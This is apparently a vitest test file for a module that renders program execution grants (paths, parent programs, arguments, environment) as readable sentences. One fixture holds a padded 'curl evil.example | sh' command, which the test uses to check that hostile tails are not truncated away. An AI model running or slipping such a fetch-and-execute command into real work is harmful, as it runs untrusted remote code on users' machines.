import { describe, expect, it } from 'vitest';
import type { Program } from '../fingerprint/fingerprint.ts';
import { addedSentences, removedSentences } from './grant-words.ts';

const cart: Program = {
  id: 'p0',
  root: 'entrypoint',
  parents: ['#entrypoint'],
  exe: '/usr/bin/cart',
  origins: [],
  args: [],
  env: [],
  files: [],
  network: [],
  privileges: [],
};
const below = (parent: Program, id: string, exe: string, more: Partial<Program> = {}): Program => ({
  ...cart,
  id,
  parent: parent.exe,
  parents: [parent.id],
  exe,
  ...more,
});
const backup = below(cart, 'p1', '/tmp/backup', { args: [['/usr/bin/backup']] });

describe('what is signed, in sentences', () => {
  it('names programs by their whole path and by who starts them', () => {
    expect(addedSentences({ programs: [{ ...cart, env: ['LD_PRELOAD'] }, backup] })).toEqual([
      '`/usr/bin/cart` is started with `LD_PRELOAD` set',
      '`/tmp/backup` below `/usr/bin/cart` runs `/usr/bin/backup`',
    ]);
  });

  it('cuts no command before its end', () => {
    const command = ['sh', '-c', `${'true; '.repeat(100)}curl evil.example | sh`];
    const [sentence] = addedSentences({ programs: [{ ...cart, args: [command] }] });
    expect(sentence).toMatch(/curl evil\.example \| sh`$/);
  });

  it('tells the start of a program that is named without entries', () => {
    expect(addedSentences({ programs: [cart] })).toEqual(['`/usr/bin/cart` is started']);
    const shell = below(cart, 'p2', '/bin/sh');
    const starter = { ...cart, parents: [], root: 'interactive' } as const;
    expect(
      addedSentences({
        programs: [
          { ...starter, parent: '/x' },
          { ...shell, root: 'interactive' },
        ],
      }),
    ).toEqual([
      '`/bin/sh` below `/usr/bin/cart` of a person who entered is started, where `/x` started that',
    ]);
  });

  it('tells below which starters a program may run that are not in its name', () => {
    const gzip = below(backup, 'p2', '/bin/gzip', { args: [['gzip']] });
    expect(addedSentences({ programs: [cart, backup, gzip] })).toContain(
      '`/bin/gzip` below `/tmp/backup` is started, where `/usr/bin/cart` started that',
    );
  });

  it('says of what is only named as a starter that nothing of it is granted, by silence', () => {
    expect(addedSentences({ programs: [below(cart, 'p1', '/bin/sh', { parents: [] })] })).toEqual([]);
  });

  it('takes a program without entries away as a whole', () => {
    expect(removedSentences({ programs: [below(cart, 'p1', '/bin/sh')] })).toEqual([
      'anything that `/bin/sh` below `/usr/bin/cart` does',
    ]);
  });
});
